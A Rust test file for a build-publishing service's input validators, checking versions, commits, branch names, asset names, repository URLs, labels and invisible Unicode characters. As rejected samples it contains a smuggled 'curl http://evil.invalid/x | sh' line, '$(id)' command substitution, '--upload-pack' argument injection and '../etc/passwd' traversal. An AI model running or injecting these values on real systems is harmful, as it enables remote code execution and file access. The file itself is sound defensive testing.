use super::*;

#[test]
fn versions() {
    for ok in [
        "9.0.2",
        "9.0.0-preview.1.24080.9",
        "1.0.0+build.5",
        "v1.2_3",
        "8",
    ] {
        assert!(version(ok).is_ok(), "{ok}");
    }
    for bad in [
        "",
        "9.0.2\nRUN curl http://evil.invalid/x | sh\n#",
        "9.0.2 ",
        " 9.0.2",
        "9.0.2\"/><x",
        "-1.0",
        "1.0$(id)",
        "1.0\u{0}",
        &"9".repeat(MAX_VERSION + 1),
    ] {
        assert!(version(bad).is_err(), "{bad:?}");
    }
}

#[test]
fn commits() {
    for ok in ["abc1234", &"a".repeat(40), &"0".repeat(64)] {
        assert!(commit(ok).is_ok(), "{ok}");
    }
    for bad in ["abc123", "xyz1234", &"a".repeat(65), "abc1234\n", ""] {
        assert!(commit(bad).is_err(), "{bad:?}");
    }
}

#[test]
fn branches_follow_git_ref_format() {
    for ok in [
        "main",
        "release/9.0",
        "feature/x-y_z",
        "a.b",
        "release/9.0-staging",
    ] {
        assert!(branch(ok).is_ok(), "{ok}");
    }
    for bad in [
        "",
        "../x",
        "a..b",
        "x.lock",
        "a/x.lock/b",
        "@{1}",
        "ma@{in",
        "-x",
        "--upload-pack=x",
        "main ",
        "a b",
        "a*",
        "a?",
        "a[",
        "a~1",
        "a^",
        "a:b",
        "a\\b",
        "/a",
        "a/",
        "a//b",
        "a.",
        ".a",
        "a/.b",
        "@",
        "a\u{7f}",
        "a\tb",
    ] {
        assert!(branch(bad).is_err(), "{bad:?}");
    }
    assert!(branch(&"a".repeat(MAX_BRANCH + 1)).is_err());
}

#[test]
fn build_numbers_and_asset_names() {
    assert!(build_number("20261101.3").is_ok());
    assert!(build_number(&"1".repeat(2_000_000)).is_err());
    assert!(build_number("1 2").is_err());
    for ok in [
        "Contoso.Runtime",
        "assets/symbols/x.zip",
        "contoso/runtime-deps",
    ] {
        assert!(asset_name(ok).is_ok(), "{ok}");
    }
    for bad in ["a b", "../etc/passwd", "a//b", "a\nb", "x/..", ""] {
        assert!(asset_name(bad).is_err(), "{bad:?}");
    }
}

#[test]
fn names() {
    for ok in ["runtime-to-sdk", "product-11-dev", "a", "a.b"] {
        assert!(name("subscription", ok).is_ok(), "{ok}");
    }
    for bad in ["Runtime", "a_b", "-a", "a-", "", "a b", &"a".repeat(254)] {
        assert!(name("subscription", bad).is_err(), "{bad:?}");
    }
}

#[test]
fn refusals_quote_a_short_escaped_prefix_only() {
    let hostile = format!("1.0\n{}", "x".repeat(10_000));
    let err = version(&hostile).unwrap_err();
    let text = err.to_string();
    assert!(text.starts_with("version \"1.0\\n"), "{text}");
    assert!(text.len() < 200, "{text}");
    assert!(!text.contains('\n'), "{text}");
    assert_eq!(err.in_field("assets[2].version").field, "assets[2].version");
}

#[test]
fn whole_builds() {
    use crate::model::{Asset, AssetLocation, LocationType};
    let asset = |name: &str, version: &str, location: &str| Asset {
        name: name.into(),
        version: version.into(),
        non_shipping: false,
        locations: vec![AssetLocation {
            location: location.into(),
            type_: LocationType::NugetFeed,
        }],
    };
    let good = [asset(
        "Contoso.Runtime",
        "9.0.2",
        "https://pkgs.example.com/feed/index.json",
    )];
    let channels = ["product-dev".to_string()];
    let fields = BuildFields {
        repository: "https://github.com/contoso/runtime",
        branch: "main",
        commit: "0123456789abcdef0123456789abcdef01234567",
        build_number: "20261101.3",
        produced_at: "2026-11-01T10:00:00Z",
        assets: &good,
        channels: &channels,
    };
    assert!(build(&fields).is_ok());

    let hostile = [asset(
        "Contoso.Runtime",
        "9.0.2\nRUN curl http://evil.invalid/x | sh\n#",
        "x",
    )];
    let err = build(&BuildFields {
        assets: &hostile,
        ..fields
    })
    .unwrap_err();
    assert_eq!(err.field, "assets[0].version");

    let leaky = [asset(
        "A",
        "1.0",
        "https://bot:s3cret@pkgs.example.com/feed",
    )];
    let err = build(&BuildFields {
        assets: &leaky,
        ..fields
    })
    .unwrap_err();
    assert!(!err.to_string().contains("s3cret"), "{err}");

    let err = build(&BuildFields {
        repository: "https://bot:s3cret@github.com/o/r",
        ..fields
    })
    .unwrap_err();
    assert_eq!(err.field, "repository");
    assert!(!err.to_string().contains("s3cret"), "{err}");

    for (f, bad) in [
        (
            "branch",
            BuildFields {
                branch: "../x",
                ..fields
            },
        ),
        (
            "commit",
            BuildFields {
                commit: "zzz",
                ..fields
            },
        ),
        (
            "build number",
            BuildFields {
                build_number: "1\n2",
                ..fields
            },
        ),
        (
            "producedAt",
            BuildFields {
                produced_at: "yesterday",
                ..fields
            },
        ),
    ] {
        assert_eq!(build(&bad).unwrap_err().field, f);
    }
    let many: Vec<String> = (0..=MAX_CHANNELS).map(|i| format!("c{i}")).collect();
    assert_eq!(
        build(&BuildFields {
            channels: &many,
            ..fields
        })
        .unwrap_err()
        .field,
        "channels"
    );
    let upper = ["Product-Dev".to_string()];
    assert_eq!(
        build(&BuildFields {
            channels: &upper,
            ..fields
        })
        .unwrap_err()
        .field,
        "channels[0]"
    );
}

#[test]
fn labels() {
    assert!(label("check", "build (linux-x64)").is_ok());
    assert!(label("reviewer", "alice").is_ok());
    for bad in ["", "  ", "a\nb", "a\u{1b}[31m", &"x".repeat(MAX_LABEL + 1)] {
        assert!(label("check", bad).is_err(), "{bad:?}");
    }
}

#[test]
fn repositories() {
    let url = repository("https://GitHub.com/contoso/runtime.git").expect("a URL");
    assert_eq!(url.as_str(), "https://github.com/contoso/runtime");
    for bad in [
        "",
        // Found by the build_publish fuzz target: the parser trims, so a door that keeps
        // the value it was given stored the space.
        "https://github.com/contoso/runtime ",
        "\thttps://github.com/contoso/runtime",
        "https://github.com/contoso/runtime\n",
        "https://user:token@github.com/contoso/runtime",
        &format!("https://github.com/{}", "a".repeat(MAX_REPOSITORY)),
    ] {
        let e = repository(bad).expect_err(bad);
        assert_eq!(e.field, "repository");
        assert!(!e.to_string().contains('\n'), "{e}");
        assert!(!e.to_string().contains("user:token"), "{e}");
    }
}

/// Invisible characters that make one name look like another, or show it reversed.
const FORMAT_CHARACTERS: [char; 12] = [
    '\u{ad}',   // soft hyphen
    '\u{200b}', // zero-width space
    '\u{200c}', // zero-width non-joiner
    '\u{200d}', // zero-width joiner
    '\u{200e}', // left-to-right mark
    '\u{200f}', // right-to-left mark
    '\u{202a}', // left-to-right embedding
    '\u{202e}', // right-to-left override
    '\u{2060}', // word joiner
    '\u{2066}', // left-to-right isolate
    '\u{2069}', // pop directional isolate
    '\u{feff}', // zero-width no-break space (byte-order mark)
];

#[test]
fn format_characters_are_told_apart_from_text() {
    for c in FORMAT_CHARACTERS
        .into_iter()
        .chain(['\u{061c}', '\u{e0041}'])
    {
        assert!(is_format_character(c), "{c:?}");
    }
    for c in ['a', '-', ' ', '\n', 'é', '日', '\u{300}', '\u{a0}'] {
        assert!(!is_format_character(c), "{c:?}");
    }
}

#[test]
fn branches_with_invisible_format_characters_are_refused() {
    // Text beyond ASCII is a valid branch name for git, and stays one.
    for ok in ["release/café", "feature/日本語"] {
        assert!(branch(ok).is_ok(), "{ok}");
    }
    for c in FORMAT_CHARACTERS {
        for bad in [
            format!("ma{c}in"),
            format!("{c}main"),
            format!("main{c}"),
            format!("release/{c}9.0"),
        ] {
            let e = branch(&bad).expect_err(&bad);
            assert_eq!(e.field, "branch");
            assert!(e.reason.contains("must not contain"), "{e}");
            assert!(ref_name(&bad).is_err(), "{bad:?}");
            assert!(
                !e.to_string().contains(c),
                "the refusal shows it escaped: {e}"
            );
        }
    }
}

#[test]
fn labels_locations_and_repositories_with_invisible_format_characters_are_refused() {
    for c in FORMAT_CHARACTERS {
        let check = format!("build{c} (linux)");
        assert!(label("check name", &check).is_err(), "{check:?}");
        let reviewer = format!("ali{c}ce");
        assert!(label("reviewer", &reviewer).is_err(), "{reviewer:?}");
        let feed = format!("https://pkgs.example.com/{c}feed/index.json");
        assert!(location(&feed).is_err(), "{feed:?}");
        let url = format!("https://github.com/contoso/{c}emitnur");
        assert!(repository(&url).is_err(), "{url:?}");
        assert!(RepositoryUrl::parse(&url).is_err(), "{url:?}");
    }
    assert!(label("reviewer", "José").is_ok());
}
